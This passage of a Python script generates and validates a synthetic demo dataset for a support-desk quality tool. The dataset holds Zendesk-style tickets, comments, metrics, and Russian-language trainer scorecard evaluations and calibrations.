        created = plan["created"] + dt.timedelta(seconds=round(off * 60))
        comments.append({
            "id": ids.next_comment(), "type": "Comment", "author_id": author,
            "body": plain, "html_body": html_body, "plain_body": plain,
            "public": role not in NOTE_ROLES,
            "attachments": [make_attachment(rng, ids, a, ctx) for a in (m["attach"] or [])],
            "via": {"channel": via}, "created_at": iso(created), "_role": role,
        })

    last = parse_iso(comments[-1]["created_at"])
    ticket = {"_plan": plan, "_cv": cv}
    if plan["solved"]:
        solved_at = last + minutes(U(rng, 0.5, 6) if team == "chats" else U(rng, 3, 110))
        closed = solved_at + dt.timedelta(days=4) < NOW
        status = "closed" if closed else "solved"
        updated = solved_at + dt.timedelta(days=4, minutes=rng.randint(1, 50)) if closed else solved_at
    else:
        solved_at = None
        last_public = [c for c in comments if c["public"]][-1]
        status = "pending" if last_public["_role"] != "c" and comments[-1]["public"] else "open"
        if status == "open" and rng.random() < 0.3 and comments[-1]["_role"] == "c":
            status = "open"
        updated = last + minutes(rng.randint(0, 20))
        if updated > NOW:
            updated = last
    rating = None
    if plan["solved"] and rng.random() < 0.47:
        bad = [f for f in BAD_FLAGS if f in plan["flags"]]
        r = rng.random()
        if r < 0.11:
            rating = {"score": "offered", "comment": ""}
        elif bad and rng.random() < 0.5 or (not bad and rng.random() < 0.05):
            key = bad[0] if bad else None
            if key == "slow" and team == "paid-services":
                key = "slow_paid"
            rating = {"score": "bad", "comment": SAT[plan["lang"]]["bad"][key]}
        else:
            rating = {"score": "good", "comment": rng.choice(SAT[plan["lang"]]["good"])}
        if rating["score"] != "offered" and status == "solved":
            updated = max(updated, solved_at + minutes(rng.randint(10, 600)))
            if updated > NOW:
                updated = NOW - minutes(rng.randint(5, 60))
                updated = max(updated, solved_at)
    elif not plan["solved"] and rng.random() < 0.25:
        rating = {"score": "unoffered", "comment": ""}

    tags = [LINE_TAG[team]]
    if "bad_tags" not in plan["flags"]:
        tags += plan["sc"]["tags"]
    if plan["esc"]:
        tags.append("escalated")
    if plan["lang"] == "en":
        tags.append("lang_en")
    zt = {
        "url": f"https://demo.zendesk.example/api/v2/tickets/{plan['id']}.json",
        "id": plan["id"], "via": {"channel": plan["channel"]},
        "created_at": iso(plan["created"]), "updated_at": iso(updated),
        "type": plan["sc"]["ztype"], "subject": fill(cv.vpick(plan["sc"]["subj"]), ctx),
        "priority": plan["sc"]["priority"], "status": status,
        "requester_id": user_ids["cust"][plan["cust"]], "submitter_id": user_ids["cust"][plan["cust"]],
        "assignee_id": user_ids["agent"][plan["eng"]], "organization_id": None,
        "group_id": GROUP_IDS[team], "tags": tags,
    }
    zt["raw_subject"] = zt["subject"]
    if rating:
        zt["satisfaction_rating"] = rating
    zt["comments"] = comments
    ticket.update(zt=zt, solved_at=solved_at, ctx=ctx)
    return ticket

# ---------------------------------------------------------------------------------------
# Scoring (spec/scoring.md)
# ---------------------------------------------------------------------------------------

def crit_setting(card, crit, key, default):
    if key in crit:
        return crit[key]
    return card.get(key, default)


def score_evaluation(card, answers):
    """Returns the same fields as scoring-vectors.json's "expect"."""
    fails_on = card.get("critical_fails_on", ["no"])
    missing, complete, critical_failed = [], True, False
    total_w, total_ws = 0.0, 0.0
    for sec in card["sections"]:
        sw, sws = 0.0, 0.0
        for c in sec["criteria"]:
            a = answers.get(c["id"])
            if a is None:
                complete = False
                continue
            v = a["value"]
            if v in crit_setting(card, c, "comment_required_for", ["no", "partly"]) \
                    and not str(a.get("comment") or "").strip():
                missing.append(c["id"])
                complete = False
            if c.get("critical", False) and v in fails_on:
                critical_failed = True
            if v == "na":
                continue
            credit = 1.0 if v == "yes" else 0.0 if v == "no" else float(crit_setting(card, c, "partial_credit", 0.5))
            w = float(c.get("weight", 1))
            sw += w
            sws += w * credit
        if sw > 0:
            W = float(sec.get("weight", 1))
            total_w += W
            total_ws += W * (sws / sw)
    if total_w == 0:
        return {"scored": False, "score": None, "uncapped_score": None, "critical_failed": critical_failed,
                "complete": complete, "missing_comments": missing}
    uncapped = 100.0 * total_ws / total_w
    return {"scored": True, "score": 0.0 if critical_failed else uncapped, "uncapped_score": uncapped,
            "critical_failed": critical_failed, "complete": complete, "missing_comments": missing}


def check_vectors(path):
    data = json.load(open(path, encoding="utf-8"))
    bad = 0
    for case in data["cases"]:
        got = score_evaluation(case["scorecard"], case["answers"]["answers"])
        exp = case["expect"]
        for k, v in exp.items():
            g = got[k]
            same = (g == v) if not isinstance(v, float) or g is None else abs(g - v) < 1e-9
            if not same:
                bad += 1
                print(f"vector '{case['name']}': {k} = {g!r}, expected {v!r}")
    print(f"scoring vectors: {len(data['cases'])} cases, {bad} mismatches")
    return bad == 0


# ---------------------------------------------------------------------------------------
# Evaluations
# ---------------------------------------------------------------------------------------

GENERIC_COMMENT = {
    "thin": "Первый ответ без диагностики и конкретных шагов — клиенту пришлось переспрашивать",
    "misread": "Сначала ответил не на тот вопрос, клиенту пришлось повторять",
    "no_workaround": "Не предложил временного решения, пока основная проблема не устранена",
    "unverified": "Не проверил результат — клиент вернулся с той же проблемой",
    "wrong": "Дана неверная информация",
    "shallow": "Причина не найдена с первого раза, первый ответ без диагностики",
    "bad_note": "Заметка для второй линии без деталей: нет аккаунта и того, что уже проверено",
    "no_note": "Результаты диагностики не зафиксированы во внутренней заметке — коллегам придётся разбираться заново",
    "no_closing": "Не уточнил, остались ли вопросы, чат завершён без прощания",
    "no_greeting": "Не представился: ответил «Да, слушаю» без названия компании и имени",
    "interrupt": "Перебил клиента, не дав договорить",
    "curt": "Сухо: без обращения по имени и нормальной подписи",
    "pwd_plain": "Запросил пароль в тексте тикета вместо защищённой формы",
    "report_thin": "Финальный ответ без перечня работ и результатов проверки",
    "no_followup": "Не отправил клиенту письмо с итогами звонка",
    "no_quote": "Работы начаты без согласования стоимости и объёма",
    "no_backup": "Изменения на сервере без предварительного снапшота и бэкапа",
    "no_ident": "Клиент не идентифицирован перед действиями с аккаунтом",
    "ident_partial": "Идентификация только по номеру договора, без контрольного слова",
}
POSITIVE_OVERALL = [
    "Отличная работа: {good}.", "Хороший пример для базы ответов: {good}.", "Замечаний нет. {good_cap}.",
    "Всё по регламенту, {good}.",
]
NEGATIVE_OVERALL = [
    "Основное замечание: {issue}. В остальном хорошо.", "{issue_cap}. Обсудим на разборе.",
    "Есть над чем поработать: {issue}.", "{issue_cap} — остальное по регламенту.",
]
CRITICAL_OVERALL = "Критическая ошибка: {issue}. Разбираем на еженедельной планёрке, ответ добавлен в учебные примеры."
CALIBRATION_CHANGE = {
    "first-line": [("first-answer", "Ответ верный, но без ссылки на инструкцию в базе знаний — по нашему стандарту это «частично»"),
                   ("tags", "Проставлен тег линии и одна тема, вторая тема не отмечена — считаю «частично»")],
    "second-line": [("explained", "Объяснение для клиента слишком техническое, без вывода «что делать, чтобы не повторилось»")],
    "chats": [("polite", "Вежливо, но три шаблонные фразы подряд — клиент это замечает"),
              ("complete", "Ответ дан, но без ссылки на инструкцию — клиенту пришлось бы искать самому")],
    "calls": [("followup", "Письмо отправлено, но без номера заявки — считаю «частично»")],
}
CALIBRATION_COMMENT = {
    True: "Калибровка: не согласна с исходной оценкой идентификации — без контрольного слова идентификация не пройдена, по регламенту это критическая ошибка.",
    False: "Калибровка: в целом согласна с исходной оценкой, расхождение в одном критерии.",
}


def cap(s):
    return s[:1].upper() + s[1:] if s else s


def low(s):
    return s[:1].lower() + s[1:] if s and not s[:2].isupper() else s


def max_chat_gap(ticket):
    """Longest wait of the customer for an agent message in a chat, minutes."""
    cs = ticket["zt"]["comments"]
    gap = 0.0
    for a, b in zip(cs, cs[1:]):
        if b["_role"] == "e":
            last_c = a
            gap = max(gap, (parse_iso(b["created_at"]) - parse_iso(last_c["created_at"])).total_seconds() / 60)
    # count from the customer's message before a "where are you?" nudge as well
    for i in range(1, len(cs) - 1):
        if cs[i]["_role"] == "c" and cs[i - 1]["_role"] == "c" and cs[i + 1]["_role"] == "e":
            gap = max(gap, (parse_iso(cs[i + 1]["created_at"]) - parse_iso(cs[i - 1]["created_at"])).total_seconds() / 60)
    return gap


def first_reply_minutes(ticket):
    cs = ticket["zt"]["comments"]
    plan = ticket["_plan"]
    start = parse_iso(cs[0]["created_at"])
    if plan["esc"]:
        start = parse_iso(next(c for c in cs if c["_role"] == "l1n")["created_at"])
    first = next(c for c in cs if c["_role"] == "e" and c["public"])
    return (parse_iso(first["created_at"]) - start).total_seconds() / 60


def hm(minutes_):
    h, m = divmod(int(round(minutes_)), 60)
    return f"{h} ч {m:02d} мин" if h else f"{m} мин"


def eval_answers(rng, ticket):
    plan, sc, f = ticket["_plan"], ticket["_plan"]["sc"], ticket["_plan"]["flags"]
    cv = ticket["_cv"]
    team, eng = plan["team"], plan["eng"]
    weak = dict((login_of(p["email"]), q) for p, q in ENGINEERS)[eng] > 2

    def hint(flag):
        return sc["hints"].get(flag) or GENERIC_COMMENT.get(flag, "")

    clean = not (set(f) - {"consult"})

    def good():
        return hint("good") if clean and rng.random() < 0.3 else None

    typos = "Ошибки: " + ", ".join(f"«{t}»" for t in cv.typos_found) if cv.typos_found else None
    ans = {}

    def A(cid, value, comment=None):
        ans[cid] = (value, comment)

    issues, critical = [], None
    if team == "first-line":
        A("understood", "partly", hint("misread")) if "misread" in f else A("understood", "yes")
        if "thin" in f:
            A("first-answer", "no" if weak and rng.random() < 0.6 else "partly", hint("thin"))
        elif "wrong" in f and sc.get("wrong"):
            A("first-answer", "partly", "Первый ответ содержал неверный совет, полный ответ — только после жалобы клиента")
        else:
            A("first-answer", "yes", good())
        if not sc.get("wa"):
            A("workaround", "na")
        elif "no_workaround" in f:
            A("workaround", "no", hint("no_workaround"))
        else:
            A("workaround", "yes")
        A("correct-info", "no", hint("wrong")) if "wrong" in f else A("correct-info", "yes")
        if "verified" in sc["na"]:
            A("verified", "na")
        elif "unverified" in f:
            A("verified", "no", hint("unverified"))
        else:
            A("verified", "yes")
        if "slow" in f:
            A("sla", "no", f"Первый ответ через {hm(first_reply_minutes(ticket))} при нормативе 2 часа, клиент писал повторно")
        else:
            A("sla", "yes")
        A("tags", "partly", f"Не проставлен тег темы «{sc['tags'][0]}», только тег линии") if "bad_tags" in f else A("tags", "yes")
        if "consult" in f:
            A("escalation", "partly", hint("bad_note")) if "bad_note" in f else \
                A("escalation", "yes", "Заметка для второй линии по делу: что проверено и что нужно посмотреть" if rng.random() < 0.3 else None)
        else:
            A("escalation", "na")
        if "rude" in f:
            A("polite", "no", f"Упрёк клиенту в ответе: «{cv.meta['rude']}»")
        elif "curt" in f:
            A("polite", "partly", hint("curt"))
        else:
            A("polite", "yes")
        A("grammar", "partly", typos) if typos else A("grammar", "yes")
    elif team == "second-line":
        own_note = cv.meta.get("own_note")
        if "shallow" in f:
            A("root-cause", "partly", hint("shallow"))
            A("logs", "partly" if own_note else "no",
              "Первый вывод сделан без проверки логов" + ("" if own_note else "; в заметках следов диагностики нет"))
        else:
            A("root-cause", "yes", good())
            A("logs", "yes")
        A("correct-info", "no", hint("wrong")) if "wrong" in f else A("correct-info", "yes")
        if not sc.get("wa"):
            A("workaround", "na")
        elif "no_workaround" in f:
            A("workaround", "no", hint("no_workaround"))
        else:
            A("workaround", "yes")
        A("explained", "partly", "Клиенту пришлось самому спрашивать, в чём причина") if "shallow" in f else A("explained", "yes")
        if "slow" in f:
            norm = "1 час для аварий" if sc["priority"] == "urgent" else "24 часа"
            A("sla", "no", f"Ответ второй линии через {hm(first_reply_minutes(ticket))} при нормативе {norm}")
        else:
            A("sla", "yes")
        if own_note:
            A("internal-note", "yes")
        elif "shallow" in f:
            A("internal-note", "no", "Диагностика не зафиксирована ни в заметке, ни в первом ответе — коллеге пришлось бы начинать заново")
        else:
            A("internal-note", "na")
        A("grammar", "partly", typos) if typos else A("grammar", "yes")
    elif team == "calls":
        A("greeting", "partly", hint("no_greeting")) if "no_greeting" in f else A("greeting", "yes")
        if "no_ident" in f:
            A("identification", "no", hint("no_ident"))
        elif "ident_partial" in f:
            A("identification", "partly", hint("ident_partial"))
        else:
            A("identification", "yes")
        A("understood", "partly", hint("misread")) if "misread" in f else A("understood", "yes")
        A("solution", "yes", good())
        A("polite", "partly", hint("interrupt")) if "interrupt" in f else A("polite", "yes")
        letter = sc.get("followup") and "no_followup" not in f
        if "no_summary" in f:
            A("summary", "partly", "Резюме из одной фразы: «" + to_plain(fill_paras(sc["summary_thin"], ticket["ctx"])) + "» — нет договора, сути и результата")
        elif typos and not letter:
            A("summary", "yes", typos + " — на оценку не влияет, но поправьте")
        else:
            A("summary", "yes")
        if not sc.get("followup"):
            A("followup", "na")
        elif "no_followup" in f:
            A("followup", "no", hint("no_followup"))
        else:
            A("followup", "yes", typos + " в письме — на оценку не влияет, но поправьте" if typos else None)
    elif team == "chats":
        if "slow_chat" in f:
            gap = max_chat_gap(ticket)
            A("speed", "no" if gap >= 9 else "partly", f"Пауза {hm(gap)} без предупреждения, клиент переспрашивал, на связи ли инженер")
        else:
            A("speed", "yes")
        A("understood", "partly", hint("misread")) if "misread" in f else A("understood", "yes")
        A("correct-info", "no", hint("wrong")) if "wrong" in f else A("correct-info", "yes")
        A("complete", "partly", hint("thin")) if "thin" in f else A("complete", "yes", good())
        A("polite", "partly", "Без приветствия и представления: «" + cv.msgs[1]["paras"][0] + "»") if "curt" in f else A("polite", "yes")
        A("grammar", "partly", typos) if typos else A("grammar", "yes")
        A("closing", "no", hint("no_closing")) if "no_closing" in f else A("closing", "yes")
    elif team == "paid-services":
        A("scope-cost", "no", hint("no_quote")) if "no_quote" in f else A("scope-cost", "yes")
        if "pwd_plain" in f:
            A("access", "partly", hint("pwd_plain"))
        elif sc.get("access_na"):
            A("access", "na", "Сервер на нашем администрировании, доступы не запрашивались — так и должно быть")
        else:
            A("access", "yes", "Доступы запрошены через защищённую форму" if rng.random() < 0.3 else None)
        if "backup" in sc["na"]:
            A("backup", "na", hint("backup_na"))
        elif "no_backup" in f:
            A("backup", "no", hint("no_backup"))
        else:
            A("backup", "yes")
        A("done", "partly", "Работы завершены позже обещанного срока, клиенту пришлось напоминать") if "slow" in f else A("done", "yes")
        A("verified", "no", hint("unverified")) if "unverified" in f else A("verified", "yes")
        A("report", "no", hint("report_thin")) if "report_thin" in f else A("report", "yes", good())
        A("polite", "partly", typos) if typos else A("polite", "yes")

    card = CARD_BY_ID[team]
    fem = eng in FEMALE_ENGINEERS
    answers = {}
    for sec in card["sections"]:
        for c in sec["criteria"]:
            v, cm = ans[c["id"]]
            a = {"value": v}
            if cm:
                a["comment"] = feminize(cm) if fem else cm
            answers[c["id"]] = a
    return answers


def overall_comment(rng, ticket, card, answers):
    res = score_evaluation(card, answers)
    eng = ticket["_plan"]["eng"]
    fem = eng in FEMALE_ENGINEERS
    crit_ids = {c["id"] for s in card["sections"] for c in s["criteria"] if c.get("critical")}
    if res["critical_failed"]:
        issue = next(a["comment"] for cid, a in answers.items() if cid in crit_ids and a["value"] in card.get("critical_fails_on", ["no"]))
        return CRITICAL_OVERALL.format(issue=low(issue))
    if rng.random() > 0.6:
        return None
    bad = [a["comment"] for a in answers.values() if a["value"] in ("no", "partly") and a.get("comment")]
    if bad:
        issue = bad[0] if len(bad) == 1 or rng.random() < 0.6 else bad[0] + "; " + low(bad[1])
        return rng.choice(NEGATIVE_OVERALL).format(issue=low(issue), issue_cap=cap(issue))
    good = ticket["_plan"]["sc"]["hints"].get("good", "ответ полный и по делу")
    if fem:
        good = feminize(good)
    return rng.choice(POSITIVE_OVERALL).format(good=low(good), good_cap=cap(good))


def make_evaluations(eval_seed, tickets_by_idx, chosen, people):
    trainers = [login_of(p["email"]) for p in TRAINERS]
    admin = login_of(ADMIN["email"])
    evals = []
    for login, plans in chosen.items():
        for plan in plans:
            t = tickets_by_idx[plan["idx"]]
            rng = Random(eval_seed + plan["id"])
            team = plan["team"]
            card = CARD_BY_ID[team]
            opts = TRAINER_FOR_TEAM[team]
            r = rng.random()
            trainer = admin if r < 0.1 else (opts[0] if r < 0.78 or len(opts) == 1 else opts[1])
            answers = eval_answers(rng, t)
            ev = {"ticket": str(plan["id"]), "source": "demo", "engineer": f"{login}@{EMAIL_DOMAIN}",
                  "trainer": f"{trainer}@{EMAIL_DOMAIN}", "scorecard": card["id"],
                  "submitted_at": iso(eval_time(rng, t["solved_at"], span_days=3 if plan.get("calibrate") else 5)),
                  "kind": "normal"}
            oc = overall_comment(rng, t, card, answers)
            if oc:
                ev["comment"] = oc
            ev["answers"] = answers
            evals.append(ev)
            if plan.get("calibrate"):
                evals.append(make_calibration(rng, t, ev, trainers + [admin]))
    evals.sort(key=lambda e: (e["submitted_at"], e["ticket"]))
    return evals


def eval_time(rng, solved_at, after=None, span_days=5):
    lo = (after or solved_at) + dt.timedelta(hours=2)
    hi = min(solved_at + dt.timedelta(days=span_days), EVAL_LIMIT)
    if hi <= lo:
        hi = lo + dt.timedelta(minutes=30)
    t = lo + (hi - lo) * rng.random()
    if not 6 <= t.hour <= 15:          # trainers work 09:00-18:00 Moscow time
        t2 = t.replace(hour=rng.randint(6, 15))
        if lo <= t2 <= hi:
            t = t2
    return t.replace(microsecond=0)


def make_calibration(rng, ticket, original, trainer_pool):
    plan = ticket["_plan"]
    team = plan["team"]
    orig_trainer = login_of(original["trainer"])
    cands = [t for t in trainer_pool if t != orig_trainer]
    trainer = "e.kuznetsova" if "e.kuznetsova" in cands else cands[0]
    answers = json.loads(json.dumps(original["answers"]))
    critical = "ident_partial" in plan["flags"]
    if critical:
        answers["identification"] = {"value": "no", "comment": "Контрольное слово не спрошено — идентификация не пройдена, а клиенту уже сообщены данные аккаунта. Это «Нет», а не «Частично»."}
    else:
        for cid, comment in CALIBRATION_CHANGE[team]:
            if answers[cid]["value"] == "yes":
                answers[cid] = {"value": "partly", "comment": comment}
                break
    sub = eval_time(rng, ticket["solved_at"], after=parse_iso(original["submitted_at"]))
    ev = {"ticket": original["ticket"], "source": "demo", "engineer": original["engineer"],
          "trainer": f"{trainer}@{EMAIL_DOMAIN}", "scorecard": original["scorecard"],
          "submitted_at": iso(sub), "kind": "calibration",
          "comment": CALIBRATION_COMMENT[critical], "answers": answers}
    return ev

# ---------------------------------------------------------------------------------------
# Assembly
# ---------------------------------------------------------------------------------------

def people_doc():
    people = [p for p, _ in ENGINEERS] + TRAINERS + [ADMIN, ARBITER] + TEAM_LEADS
    return {"format": "qadesk.people/1", "teams": TEAMS, "people": people}


def generate():
    # one seed per phase and per ticket, all drawn from RNG: editing one conversation's
    # text does not reshuffle the rest of the workspace
    seeds = {name: RNG.getrandbits(48) for name in
             ("customers", "plan", "flags", "unsolved", "choose", "render", "eval")}
    rng = Random(seeds["plan"])
    customers = make_customers(Random(seeds["customers"]))
    people = {login_of(p["email"]): p for p in people_doc()["people"]}
    plans = plan_tickets(rng, customers, seeds["flags"])
    plans.sort(key=lambda p: p["created"])
    for i, p in enumerate(plans):
        p["idx"], p["id"], p["n"] = i, 40001 + i, rng.randint(10000, 99999)
    rng = Random(seeds["unsolved"])
    choose_unsolved(rng, plans)
    for key, kind in (("fl-malware", "ru"), ("fl-spam-en", "en")):
        cands = [p for p in plans if p["sc"]["key"] == key and p["solved"]] or \
                [p for p in plans if p["team"] == "first-line" and p["lang"] == kind and p["solved"]]
        cands[len(cands) // 2]["hostile"] = kind
    chosen = choose_evaluated(Random(seeds["choose"]), plans)

    user_ids = {"agent": {}, "cust": {}}
    users = []
    for i, (p, _) in enumerate(ENGINEERS):
        user_ids["agent"][login_of(p["email"])] = 1001 + i
        users.append({"id": 1001 + i, "name": p["name"], "email": p["email"], "role": "agent"})
    users.append({"id": 1001 + len(ENGINEERS), "name": ADMIN["name"], "email": ADMIN["email"], "role": "admin"})
    for i, c in enumerate(customers):
        user_ids["cust"][i] = 2001 + i
        users.append({"id": 2001 + i, "name": c["name"], "email": c["email"], "role": "end-user"})

    ids = Ids()
    tickets = [render_ticket(Random(seeds["render"] + p["id"]), p, customers[p["cust"]], people, user_ids, ids)
               for p in plans]
    by_idx = {t["_plan"]["idx"]: t for t in tickets}
    evaluations = make_evaluations(seeds["eval"], by_idx, chosen, people)

    metric_sets = []
    for t in tickets:
        if t["solved_at"] is None:
            continue
        cs = t["zt"]["comments"]
        created = parse_iso(t["zt"]["created_at"])
        first_pub = next(c for c in cs if c["public"] and c["_role"] != "c")
        reply = round((parse_iso(first_pub["created_at"]) - created).total_seconds() / 60)
        full = round((t["solved_at"] - created).total_seconds() / 60)
        metric_sets.append({
            "id": 5000000 + t["zt"]["id"] - 40000, "ticket_id": t["zt"]["id"],
            "created_at": t["zt"]["created_at"], "updated_at": t["zt"]["updated_at"],
            "solved_at": iso(t["solved_at"]),
            "replies": sum(1 for c in cs if c["public"] and c["_role"] != "c"),
            "reply_time_in_minutes": {"calendar": reply, "business": reply},
            "full_resolution_time_in_minutes": {"calendar": full, "business": full},
        })
    zendesk = {
        "users": users,
        "groups": [{"id": GROUP_IDS[t["id"]], "name": t["id"]} for t in TEAMS],
        "metric_sets": metric_sets,
        "tickets": [strip_private(t["zt"]) for t in tickets],
    }
    return {"people": people_doc(), "zendesk": zendesk,
            "evaluations": {"format": "qadesk.evaluations/1", "evaluations": evaluations},
            "_tickets": tickets}


def strip_private(obj):
    if isinstance(obj, dict):
        return {k: strip_private(v) for k, v in obj.items() if not k.startswith("_")}
    if isinstance(obj, list):
        return [strip_private(v) for v in obj]
    return obj


def dump(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        json.dump(data, f, ensure_ascii=False, indent=1)
        f.write("\n")


def write_all(out, data):
    for card in SCORECARDS:
        dump(os.path.join(out, "scorecards", f"{card['id']}.json"), card)
    dump(os.path.join(out, "people.json"), data["people"])
    dump(os.path.join(out, "tickets.zendesk.json"), data["zendesk"])
    dump(os.path.join(out, "evaluations.json"), data["evaluations"])


# ---------------------------------------------------------------------------------------
# Validation (reads the files back from disk)
# ---------------------------------------------------------------------------------------

CARD_FIELDS = {"format", "id", "title", "partial_credit", "comment_required_for", "critical_fails_on",
               "applies_to", "sections"}
SECTION_FIELDS = {"id", "title", "weight", "criteria"}
CRITERION_FIELDS = {"id", "text", "weight", "critical", "partial_credit", "na_allowed",
                    "comment_required_for", "help"}
APPLIES_FIELDS = {"teams", "tags", "channels"}


def is_num(x):
    return isinstance(x, (int, float)) and not isinstance(x, bool) and math.isfinite(x)


def validate_card(card, errors, where):
    def err(path, msg):
        errors.append(f"{where}: {path}: {msg}")

    if not isinstance(card, dict):
        err("$", "must be an object")
        return
    for k in card:
        if k not in CARD_FIELDS:
            err(k, "unknown field")
    if card.get("format") != "qadesk.scorecard/1":
        err("format", "must be \"qadesk.scorecard/1\"")
    if not isinstance(card.get("id"), str) or not ID_RE.match(card.get("id", "")):
        err("id", "must match [a-z0-9][a-z0-9._-]*")
    if not isinstance(card.get("title"), str) or not card["title"].strip():
        err("title", "must be a non-empty string")

    def check_common(obj, path):
        if "partial_credit" in obj and not (is_num(obj["partial_credit"]) and 0 <= obj["partial_credit"] <= 1):
            err(f"{path}partial_credit", "must be a number in [0, 1]")
        if "comment_required_for" in obj:
            v = obj["comment_required_for"]
            if not isinstance(v, list) or any(x not in VALUES for x in v) or len(set(v)) != len(v):
                err(f"{path}comment_required_for", "must be a list of distinct yes/partly/no/na")
        if "weight" in obj and not (is_num(obj["weight"]) and obj["weight"] > 0):
            err(f"{path}weight", "must be > 0")

    check_common(card, "")
    if "critical_fails_on" in card:
        v = card["critical_fails_on"]
        if not isinstance(v, list) or any(x not in VALUES for x in v):
            err("critical_fails_on", "must be a list of yes/partly/no/na")
    if "applies_to" in card:
        at = card["applies_to"]
        if not isinstance(at, dict):
            err("applies_to", "must be an object")
        else:
            for k, v in at.items():
                if k not in APPLIES_FIELDS:
                    err(f"applies_to.{k}", "unknown field")
                elif not isinstance(v, list) or not all(isinstance(x, str) and x for x in v):
                    err(f"applies_to.{k}", "must be a list of strings")
    sections = card.get("sections")
    if not isinstance(sections, list) or not sections:
        err("sections", "a card needs at least one section")
        return
    sec_ids = set()
    for i, sec in enumerate(sections):
        sp = f"sections[{i}]."
        for k in sec:
            if k not in SECTION_FIELDS:
                err(f"{sp}{k}", "unknown field")
        sid = sec.get("id")
        if not isinstance(sid, str) or not ID_RE.match(sid):
            err(f"{sp}id", "must match [a-z0-9][a-z0-9._-]*")
        elif sid in sec_ids:
            err(f"{sp}id", "duplicate section id")
        sec_ids.add(sid)
        if not isinstance(sec.get("title"), str) or not sec["title"].strip():
            err(f"{sp}title", "must be a non-empty string")
        check_common(sec, sp)
        crits = sec.get("criteria")
        if not isinstance(crits, list) or not crits:
            err(f"{sp}criteria", "a section needs at least one criterion")
            continue
        for j, c in enumerate(crits):
            cp = f"{sp}criteria[{j}]."
            for k in c:
                if k not in CRITERION_FIELDS:
                    err(f"{cp}{k}", "unknown field")
            if not isinstance(c.get("id"), str) or not ID_RE.match(c.get("id", "")):
                err(f"{cp}id", "must match [a-z0-9][a-z0-9._-]*")
            if not isinstance(c.get("text"), str) or not c["text"].strip():
                err(f"{cp}text", "must be a non-empty string")
            if "help" in c and (not isinstance(c["help"], str) or not c["help"].strip()):
                err(f"{cp}help", "must be a non-empty string")
            for b in ("critical", "na_allowed"):
                if b in c and not isinstance(c[b], bool):
                    err(f"{cp}{b}", "must be true or false")
            check_common(c, cp)
    # criterion ids are unique within the card (answers are keyed by them)
    all_ids = [c.get("id") for s in sections for c in (s.get("criteria") or [])]
    dups = {x for x in all_ids if all_ids.count(x) > 1}
    if dups:
        err("sections", f"duplicate criterion ids: {sorted(dups)}")


def card_applies(card, ticket, group_name):
    at = card.get("applies_to")
    if not at:
        return True
    if "teams" in at and group_name not in at["teams"]:
        return False
    if "channels" in at and ticket["via"]["channel"] not in at["channels"]:
        return False
    if "tags" in at and not set(at["tags"]) & set(ticket["tags"]):
        return False
    return True


def validate(out):
    errors = []
    load = lambda name: json.load(open(os.path.join(out, name), encoding="utf-8"))
    cards = {}
    for card in SCORECARDS:
        c = load(os.path.join("scorecards", f"{card['id']}.json"))
        validate_card(c, errors, f"scorecards/{card['id']}.json")
        cards[c["id"]] = c
        n = sum(len(s["criteria"]) for s in c["sections"])
        if not 6 <= n <= 10 or not 2 <= len(c["sections"]) <= 3:
            errors.append(f"scorecards/{c['id']}.json: {len(c['sections'])} sections / {n} criteria")
        if not any(cr.get("critical") for s in c["sections"] for cr in s["criteria"]):
            errors.append(f"scorecards/{c['id']}.json: no critical criterion")
    people = load("people.json")
    zd = load("tickets.zendesk.json")
    evs = load("evaluations.json")

    # people
    if people.get("format") != "qadesk.people/1":
        errors.append("people.json: bad format")
    team_ids = {t["id"] for t in people["teams"]}
    if team_ids != set(cards):
        errors.append("people.json: team ids differ from card ids")
    by_email = {}
    for p in people["people"]:
        if p["email"] in by_email:
            errors.append(f"people.json: duplicate {p['email']}")
        by_email[p["email"]] = p
        if not p["email"].endswith("@" + EMAIL_DOMAIN):
            errors.append(f"people.json: {p['email']} outside {EMAIL_DOMAIN}")
        if set(p["roles"]) - {"admin", "trainer", "arbiter", "engineer", "team_lead"} or not p["roles"]:
            errors.append(f"people.json: {p['email']} bad roles {p['roles']}")
        if set(p["teams"]) - team_ids:
            errors.append(f"people.json: {p['email']} unknown team")
        if p["language"] not in ("ru", "en"):
            errors.append(f"people.json: {p['email']} bad language")
    engineers = {e: p for e, p in by_email.items() if "engineer" in p["roles"]}
    trainers = {e for e, p in by_email.items() if "trainer" in p["roles"]}

    # zendesk
    users = {u["id"]: u for u in zd["users"]}
    groups = {g["id"]: g["name"] for g in zd["groups"]}
    if set(groups.values()) != team_ids:
        errors.append("tickets: group names differ from team ids")
    for u in zd["users"]:
        if u["role"] == "agent" and u["email"] not in engineers:
            errors.append(f"tickets: agent {u['email']} is not an engineer in people.json")
    agent_emails = {u["email"] for u in zd["users"] if u["role"] == "agent"}
    if agent_emails != set(engineers):
        errors.append("tickets: agents and engineers differ")
    metrics = {m["ticket_id"]: m for m in zd["metric_sets"]}
    tickets = {}
    n_comments = n_notes = n_tickets_notes = n_en = 0
    for t in zd["tickets"]:
        tid = t["id"]
        tickets[str(tid)] = t
        where = f"ticket {tid}"
        group = groups.get(t["group_id"])
        assignee = users.get(t["assignee_id"])
        if not group or not assignee or assignee["role"] != "agent":
            errors.append(f"{where}: bad group/assignee")
            continue
        if group not in engineers[assignee["email"]]["teams"]:
            errors.append(f"{where}: assignee {assignee['email']} not in team {group}")
        if users.get(t["requester_id"], {}).get("role") != "end-user":
            errors.append(f"{where}: requester is not an end-user")
        created = parse_iso(t["created_at"])
        if not WINDOW_START <= created <= WINDOW_END:
            errors.append(f"{where}: created_at outside the window")
        cs = t["comments"]
        if not 2 <= len(cs) <= 15:
            errors.append(f"{where}: {len(cs)} comments")
        if cs[0]["author_id"] != t["requester_id"] or not cs[0]["public"]:
            errors.append(f"{where}: first comment is not the requester's")
        times = [parse_iso(c["created_at"]) for c in cs]
        if times != sorted(times) or times[0] < created:
            errors.append(f"{where}: comments out of order")
        if parse_iso(t["updated_at"]) < times[-1]:
            errors.append(f"{where}: updated_at before the last comment")
        if max(times + [parse_iso(t["updated_at"])]) > NOW:
            errors.append(f"{where}: times after the export")
        for c in cs:
            if c["author_id"] not in users:
                errors.append(f"{where}: unknown author {c['author_id']}")
            if c["body"] != c["plain_body"] or "<" in c["plain_body"] and re.search(r"<(script|img|a |p>|div)", c["plain_body"]):
                errors.append(f"{where}: comment {c['id']} plain text carries markup")
            if not c["html_body"].startswith("<"):
                errors.append(f"{where}: comment {c['id']} html_body is not HTML")
            if not c["public"] and users[c["author_id"]]["role"] == "end-user":
                errors.append(f"{where}: internal note by a customer")
        n_comments += len(cs)
        notes = sum(1 for c in cs if not c["public"])
